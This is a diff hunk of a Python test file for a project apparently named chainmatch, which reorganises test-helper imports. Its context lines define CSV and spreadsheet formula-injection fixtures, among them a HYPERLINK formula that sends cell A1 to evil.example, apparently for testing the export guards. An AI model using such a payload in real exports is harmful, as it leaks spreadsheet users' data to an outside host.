@@ -26,9 +26,9 @@ from chainmatch.chains.schemas import ChainReport
 from chainmatch.db import make_engine
 from chainmatch.exports import FORMULA_TRIGGERS, csv_bytes, guard_text, is_formula_like, xlsx_append
 from chainmatch.jsonsafe import MAX_DEPTH
+from tests.chainmatch.test_chains import CHAIN_ID
 from tests.conftest import World
-from tests.test_chains import CHAIN_ID
-from tests.test_dashboard import csrf_of, login
+from tests.web.test_dashboard import csrf_of, login
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
 EVIL_TAG = "-2+3"
